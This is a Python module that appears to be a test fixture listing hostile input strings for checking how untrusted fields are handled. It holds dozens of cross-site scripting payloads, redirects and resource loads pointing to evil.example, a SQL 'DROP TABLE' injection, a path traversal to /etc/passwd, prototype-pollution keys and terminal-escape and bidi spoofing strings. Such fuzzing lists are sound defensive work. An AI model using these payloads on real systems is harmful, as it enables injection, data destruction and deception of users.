"""What an attacker would like to see run: strings for every field that strangers and far sides can fill."""

from __future__ import annotations

MARK = "pwned"
_RUN = f"alert('{MARK}')"

STRINGS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>read on</a>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"<marquee onstart={_RUN}>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
    "<!-- --!><b>broken comment",
    "<![CDATA[<b>data</b>]]>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' autofocus='",
    f"`-{_RUN}-`",
    f"${{{_RUN}}}",
    f'{{{{constructor.constructor("{_RUN}")()}}}}',
    "{{trigger.body.secret}}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "\u202egpj.exe\u202c \u2066hidden\u2069",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "zero\u200bwidth\ufeff and Z\u0351\u036b\u0343\u036aal\u0324go",
    '=HYPERLINK("https://evil.example")',
    "__proto__",
    "constructor",
    '{"$ref":"#/__proto__"}',
    "'; DROP TABLE events; --",
    "../../../etc/passwd%00",
    "%3Cscript%3E" + _RUN + "%3C/script%3E",
    "\U0001f9e8" * 20 + "\u0000".join("nul"),
    "A" * 20_000,
)
LINES = tuple(string for string in STRINGS if string.isascii() and string.isprintable() and len(string) < 200)
"""Those that fit in a header field."""
TEXTS = tuple(string for string in STRINGS if "\0" not in string)
"""Those that a body may hold and still be text."""
